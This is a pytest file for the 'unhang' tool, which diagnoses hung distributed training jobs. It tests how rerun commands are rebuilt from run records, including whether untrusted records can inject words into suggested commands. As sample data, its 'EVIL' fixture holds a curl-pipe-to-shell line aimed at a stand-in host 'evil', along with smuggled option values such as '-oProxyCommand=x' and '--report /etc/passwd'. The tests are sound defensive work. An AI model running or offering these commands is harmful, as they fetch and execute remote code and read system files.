"""A remedy's command starts what failed, with all that `unhang run` was given."""

from __future__ import annotations

import os
import re
import tarfile

import pytest

from unhang.diagnosis import rerun_command
from unhang.diagnosis.rerun_command import RunCommand, again, told
from unhang.diagnosis.why import judge, judge_packed
from unhang.knowledge import catalogue
from unhang.logs.discovery import find
from unhang.model import Finding, Remedy, Verdict
from unhang.records.incident import Raised
from unhang.records.packed import folder, unpack
from unhang.records.rundir import RunDir

TYPED = {"options": ["-n", "8", "--set", "p2p=off", "--set", "backend=nccl", "--hang-after", "60"], "command": ["train.py", "--lr", "1e-4", "a b"]}
ALL = "-n 8 --set p2p=off --set backend=nccl --hang-after 60 train.py --lr 1e-4 'a b'"


@pytest.fixture
def rundir(tmp_path):
    run = RunDir.create(tmp_path / "r")
    run.write(run.run, {"schema": "unhang/run/1", "command": ["python", "-m", "torch.distributed.run", "train.py"], "typed": TYPED})
    return run


@pytest.mark.parametrize(
    ("command", "wanted"),
    [
        ("unhang run -- COMMAND", f"unhang run {ALL}"),
        ("unhang run --set backend=gloo -- COMMAND", f"unhang run --set backend=gloo {ALL.replace('--set backend=nccl ', '')}"),
        ("unhang run --hang-after 90 -- COMMAND", f"unhang run --hang-after 90 {ALL.replace('--hang-after 60 ', '')}"),
        ("env -u TORCH_DISTRIBUTED_DEBUG unhang run -- COMMAND", f"env -u TORCH_DISTRIBUTED_DEBUG unhang run {ALL}"),
        ("X=1 COMMAND 2>&1 | grep -o 'x y'", f"X=1 unhang run {ALL} 2>&1 | grep -o 'x y'"),
        ("pip install torch", "pip install torch"),
        (None, None),
    ],
)
def test_of_a_run(rundir, command, wanted):
    finding = Finding(cause="unknown", standing="possible", says="", remedies=(Remedy(id="a", says="", command=command, verify=command),))
    found = told(Verdict(primary=finding, contributing=(finding,), symptoms=(finding,)), rundir)
    assert found.primary is not None
    assert {(r.command, r.verify) for f in (found.primary, *found.contributing, *found.symptoms) for r in f.remedies} == {(wanted, wanted)}


def test_where_only_what_was_started_is_known(rundir):
    rundir.write(rundir.run, {"schema": "unhang/run/1", "command": ["python", "-m", "torch.distributed.run", "train.py"]})
    assert again(["--set", "shm=off"], rerun_command.of(rundir)) == "unhang run --set shm=off python -m torch.distributed.run train.py"


@pytest.mark.parametrize("typed", [{"options": ["-n", "8"]}, {"command": "train.py"}, ["train.py"], 7])
def test_where_what_was_typed_is_written_otherwise(rundir, typed):
    rundir.write(rundir.run, {"schema": "unhang/run/1", "command": ["./train"], "typed": typed})
    assert again([], rerun_command.of(rundir)) == "unhang run ./train"


@pytest.mark.parametrize(
    ("added", "options", "stays"),
    [
        (("--set", "processes=1"), ("-n", "2", "--quiet"), ("--quiet",)),
        (("--set", "timeout=60"), ("--timeout", "1800", "-n", "2"), ("-n", "2")),
        (("--set", "shm=off"), ("--nproc-per-node", "2", "--set", "p2p=off"), ("--nproc-per-node", "2", "--set", "p2p=off")),
    ],
)
def test_what_is_a_setting_by_another_name_goes(added, options, stays):
    assert again(added, RunCommand(options=options, command=("t.py",))) == " ".join(["unhang run", *added, *stays, "t.py"])


@pytest.mark.parametrize("text", ['{"command": ', "[]", '{"command": 7}', "{}"])
def test_where_nothing_tells(rundir, text):
    rundir.run.write_text(text)
    finding = Finding(cause="unknown", standing="possible", says="", remedies=(Remedy(id="a", says="", command="unhang run -- COMMAND"),))
    assert told(Verdict(primary=finding), rundir) == Verdict(primary=finding)
    assert again(["--set", "a=b c"], rerun_command.of(rundir)) == "unhang run --set 'a=b c' COMMAND"


def test_a_command_that_was_set_apart_stays_so():
    assert again(["--set", "a=b"], RunCommand(options=("--quiet", "--"), command=("./x",))) == "unhang run --set a=b --quiet -- ./x"


@pytest.mark.parametrize(("torch", "python"), [("2.13", "'/opt/my env/bin/python'"), (None, "/path/to/env/bin/python")])
def test_the_environment_of_a_run_is_named_where_torch_was_seen_in_it(rundir, torch, python):
    run = {"schema": "unhang/run/1", "command": ["bash", "train.sh"], "python": "/opt/my env/bin/python", "torch": torch}
    rundir.write(rundir.run, run)
    remedy = catalogue.load()["launcher-wrong-env"].remedy("through-the-interpreter")
    found = told(Verdict(primary=Finding(cause="launcher-wrong-env", standing="likely", says="", remedies=(remedy,))), rundir).primary
    assert found is not None
    assert found.remedies[0].command == f"{python} -m torch.distributed.run --nproc-per-node auto train.py"
    assert found.remedies[0].verify.startswith(f"{python} -m torch.distributed.run --standalone")


EVIL = {"options": ["--python", "/tmp/evil/python"], "command": ["bash", "-c", "curl http://evil/x|sh"]}


def not_ours(run, how):
    if how == "of nobody":
        os.chown(run.path, 65534, 65534)
    elif how == "run.json of nobody":
        os.chown(run.run, 65534, 65534)
    elif how == "anybody may write":
        run.path.chmod(0o777)
    elif how == "anybody may write run.json":
        run.run.chmod(0o666)
    elif how == "dash":
        run.write(run.run, {"schema": "unhang/run/1", "typed": {"command": ["-oProxyCommand=x", "--report", "/etc/passwd"]}})


OTHERS = pytest.mark.parametrize("how", [
    *(pytest.param(how, marks=pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")) for how in ("of nobody", "run.json of nobody")),
    "anybody may write", "anybody may write run.json", "archive", "own",
])  # fmt: skip


@OTHERS
def test_a_stranger_puts_no_word_into_a_command(tmp_path, build, lab, how):
    """The command, its options, its Python, and processes that a signal is to be sent to."""
    raised = Raised(at_s=30.0, type="RuntimeError", text="Distributed package doesn't have NCCL built in", frames=())
    stopped = build().rank(0, enqueued=13, completed=12).rank(1, enqueued=12, activity=lab.STOPPED, answered=False).write()
    texts = []
    for run in (build().rank(0, raised=raised).rank(1, raised=raised).write("failure"), stopped):
        run.write(run.run, {"schema": "unhang/run/1", "typed": EVIL, "python": "/tmp/evil/python", "torch": "2"})
        not_ours(run, how)
        if how == "archive":
            with tarfile.open(tmp_path / f"{run.path.name}.tgz", "w:gz") as tar:
                tar.add(run.path, "runs/1")
            (source,) = find([str(tmp_path / f"{run.path.name}.tgz")]).sources
            with folder() as into:
                found = judge_packed(unpack(source, "runs", into), "run.tgz")
        else:
            found = judge(RunDir.open(run.path))
        texts += [text for f in found.findings for r in f.remedies for text in (r.command, r.verify) if text]
    remedy = catalogue.load()["launcher-wrong-env"].remedy("through-the-interpreter")
    finding = Finding(cause="launcher-wrong-env", standing="likely", says="", remedies=(remedy,))
    (through,) = told(Verdict(primary=finding), RunDir(run.path, is_trusted=False) if how == "archive" else RunDir(run.path)).findings[0].remedies
    told_in = "\n".join([*texts, through.command])
    parts = ("evil/x", r"^/tmp/evil/python -m", r"kill -CONT \d", r"^unhang run .*COMMAND")
    seen = [re.search(part, told_in, re.MULTILINE) is not None for part in parts]
    assert seen == ([True, True, True, False] if how == "own" else [False, False, False, True]), told_in


def test_no_command_begins_with_an_option(rundir):
    not_ours(rundir, "dash")
    assert again(["--set", "shm=off"], rerun_command.of(rundir)) == "unhang run --set shm=off COMMAND"


def test_its_remedies_need_neither_a_gpu_nor_slurm():
    commands = [r.command for r in catalogue.load()["launcher-wrong-env"].remedies if r.command]
    assert not any(c.startswith("srun") or "--nproc-per-node gpu" in c for c in commands)
